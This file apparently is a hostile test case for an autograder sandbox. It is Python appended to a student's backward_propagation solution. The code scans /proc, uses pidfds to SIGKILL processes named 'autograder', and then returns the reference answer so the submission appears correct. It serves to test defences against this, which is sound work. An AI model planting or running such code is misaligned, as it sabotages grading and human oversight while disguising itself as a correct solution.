# Hostile case 'kills_by_pidfd': backward_propagation kills every process it can reach through pidfds, which raise no audit event.
# Appended to solutions/ex04_hidden_delta.py by tests/security/test_hostile.py, which says what it must get.
import os
import signal

_reference = backward_propagation


def backward_propagation(parameters, cache, X, Y):
    killed, refusals = 0, []
    try:  # hostile: the grading processes, the zygote, classmates' workers, wherever /proc lists them
        pids = [int(entry) for entry in os.listdir("/proc") if entry.isdigit()]
    except OSError:
        pids = range(1, 4096)
    for pid in pids:
        if pid == os.getpid():
            continue
        try:
            handle = os.pidfd_open(pid)
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                if b"autograder" in cmdline.read():  # the grader's processes, not the machine's
                    signal.pidfd_send_signal(handle, signal.SIGKILL)
                    killed += 1
        except ProcessLookupError:
            pass
        except OSError as exc:
            refusals.append(exc)
    if killed or not refusals:
        return _reference(parameters, cache, X, Y)
    raise refusals[0]
